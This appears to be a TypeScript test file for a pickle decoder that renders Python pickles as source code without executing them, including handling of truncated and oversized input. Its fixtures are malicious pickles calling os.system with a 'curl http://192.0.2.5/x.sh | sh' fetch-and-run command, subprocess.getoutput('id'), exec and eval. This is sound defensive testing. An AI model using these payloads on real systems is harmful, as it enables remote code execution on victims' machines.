// The pickle reader: pickles of every protocol are written out as the Python they amount to, without running them;
// hostile pickles (truncated, self-referencing, deep, huge numbers, garbage) give undefined or bounded output.
// The payloads are inert: strings naming reserved addresses (192.0.2.0/24), decoded here and never unpickled.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { unpickleToPython } from '../../src/analysis/decode/pickle.ts';

/** pickle.dumps of an object whose __reduce__ is (os.system, ("curl http://192.0.2.5/x.sh | sh",)), per protocol. */
const SYSTEM_CALL: Record<number, string> = {
  0: 'Y3Bvc2l4CnN5c3RlbQpwMAooVmN1cmwgaHR0cDovLzE5Mi4wLjIuNS94LnNoIHwgc2gKcDEKdHAyClJwMwou',
  2: 'gAJjcG9zaXgKc3lzdGVtCnEAWB8AAABjdXJsIGh0dHA6Ly8xOTIuMC4yLjUveC5zaCB8IHNocQGFcQJScQMu',
  4: 'gASVOgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjB9jdXJsIGh0dHA6Ly8xOTIuMC4yLjUveC5zaCB8IHNolIWUUpQu',
  5: 'gAWVOgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjB9jdXJsIGh0dHA6Ly8xOTIuMC4yLjUveC5zaCB8IHNolIWUUpQu',
};

/** Protocol 2 pickle of {a: [1, 2.5, None, True], b: b"\x00\xff", c: OrderedDict(x=1), d: date(2020, 1, 2), e: {1, 2}, f: frozenset({3}), g: (1,), neg: -5}. */
const DATA =
  'gAJ9cQAoWAEAAABhcQFdcQIoSwFHQAQAAAAAAABOiGVYAQAAAGJxA2NfY29kZWNzCmVuY29kZQpxBFgDAAAAAMO/cQVYBgAAAGxhdGluMXEGhnEHUnEIWAEAAABjcQljY29sbGVjdGlvbnMKT3JkZXJlZERpY3QKcQopUnELWAEAAAB4cQxLAXNYAQAAAGRxDWNkYXRldGltZQpkYXRlCnEOaARYBQAAAAfDpAECcQ9oBoZxEFJxEYVxElJxE1gBAAAAZXEUY19fYnVpbHRpbl9fCnNldApxFV1xFihLAUsCZYVxF1JxGFgBAAAAZnEZY19fYnVpbHRpbl9fCmZyb3plbnNldApxGl1xG0sDYYVxHFJxHVgBAAAAZ3EeSwGFcR9YAwAAAG5lZ3EgSvv///91Lg==';

const bytes = (base64: string) => new Uint8Array(Buffer.from(base64, 'base64'));
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));

test('a reduce to os.system reads as the call it makes, in every protocol', () => {
  for (const [protocol, base64] of Object.entries(SYSTEM_CALL)) {
    const read = unpickleToPython(bytes(base64));
    assert.ok(read, `protocol ${protocol}`);
    assert.deepEqual(read.calls, ['posix.system']);
    assert.match(read.source, /^import posix\n_v1 = posix\.system\("curl http:\/\/192\.0\.2\.5\/x\.sh \| sh"\)\n/);
  }
});

test('a data pickle reads as its values, with the constructors it calls and item assignments on built objects', () => {
  const read = unpickleToPython(bytes(DATA));
  assert.ok(read);
  assert.deepEqual(read.calls, [
    '_codecs.encode',
    'collections.OrderedDict',
    '_codecs.encode',
    'datetime.date',
    '__builtin__.set',
    '__builtin__.frozenset',
  ]);
  assert.match(read.source, /_v2 = collections\.OrderedDict\(\)\n_v2\["x"\] = 1\n/);
  assert.match(read.source, /"a": \[1, 2\.5, None, True\]/);
  assert.match(read.source, /"g": \(1,\), "neg": -5\}\n$/);
});

test('INST and OBJ calls, BUILD as __setstate__, and STACK_GLOBAL from memoised strings', () => {
  const inst = unpickleToPython(latin1("(S'id'\nisubprocess\ngetoutput\np0\n."));
  assert.deepEqual(inst?.calls, ['subprocess.getoutput']);
  assert.match(inst!.source, /_v1 = subprocess\.getoutput\("id"\)/);
  const obj = unpickleToPython(latin1("(cbuiltins\nexec\nS'x = 1'\no}b."));
  assert.deepEqual(obj?.calls, ['builtins.exec']);
  assert.match(obj!.source, /_v1 = builtins\.exec\("x = 1"\)\n_v2 = _v1\.__setstate__\(\{\}\)/);
  const stacked = unpickleToPython(latin1('\x80\x04\x8c\x08builtins\x94\x8c\x04eval\x94\x93\x94h\x01\x85R.'));
  assert.deepEqual(stacked?.calls, ['builtins.eval']);
  assert.match(stacked!.source, /_v1 = builtins\.eval\("eval"\)/);
});

test('a pickle that breaks off keeps what was read: Python has run those calls before it fails', () => {
  const full = bytes(SYSTEM_CALL[4]);
  assert.equal(unpickleToPython(full.subarray(0, 1)), undefined, 'not even the first opcode reads');
  for (let cut = 2; cut < full.length; cut++) assert.equal(unpickleToPython(full.subarray(0, cut))?.complete, false);
  const beforeReduce = unpickleToPython(full.subarray(0, full.length - 3));
  assert.deepEqual([beforeReduce?.globals, beforeReduce?.calls], [['posix.system'], []]);
  const garbageAfter = unpickleToPython(new Uint8Array([...full.subarray(0, full.length - 2), 0xff]));
  assert.deepEqual([garbageAfter?.calls, garbageAfter?.complete], [['posix.system'], false]);
  assert.equal(unpickleToPython(full)?.complete, true);
});

test('hostile pickles: garbage, bad names, huge numbers, self-reference and deep nesting stay bounded', () => {
  assert.equal(unpickleToPython(latin1('not a pickle at all')), undefined);
  assert.equal(unpickleToPython(latin1('cos system\nsystem\n.')), undefined, 'a global name Python would reject');
  assert.equal(unpickleToPython(latin1('I12x\n.')), undefined, 'a malformed integer');
  const huge = new Uint8Array(5 + 100_000 + 1);
  huge.set([0x8b, 0xa0, 0x86, 0x01, 0x00]); // LONG4 of 100,000 bytes
  huge[huge.length - 1] = 0x2e;
  assert.equal(unpickleToPython(huge)?.source, '_result = 0\n');
  // a constant longer than the output budget is Ellipsis, never decoded into a huge string
  const long = new Uint8Array(11 + 2_000_000 + 1).fill(0x41);
  long.set([0x80, 0x04, 0x8d, 0x80, 0x84, 0x1e, 0, 0, 0, 0, 0]); // BINUNICODE8 of 2,000,000 bytes
  long[long.length - 1] = 0x2e;
  assert.equal(unpickleToPython(long)?.source, '_result = ...\n');
  // a list appended to itself through the memo, 40 times: rendering it would double each time without a budget
  const cycle = unpickleToPython(latin1(`]q\x00${'h\x00h\x00\x86a'.repeat(40)}.`));
  assert.ok(cycle && cycle.source.length < 1_100_000 && cycle.source.endsWith('..., ...]\n'));
  const deep = unpickleToPython(latin1(`${'('.repeat(5000)}${'l'.repeat(5000)}.`));
  assert.ok(deep && deep.source.length < 200 && deep.source.includes('...'), 'deep nesting is elided');
  // a payload behind a bytes blob larger than the output budget is still seen
  const full = bytes(SYSTEM_CALL[4]);
  const padded = new Uint8Array([
    0x80,
    0x04,
    0x42,
    0x40,
    0x42,
    0x0f,
    0x00,
    ...new Uint8Array(1_000_000),
    0x30,
    ...full.subarray(2),
  ]);
  assert.deepEqual(unpickleToPython(padded)?.calls, ['posix.system']);
});
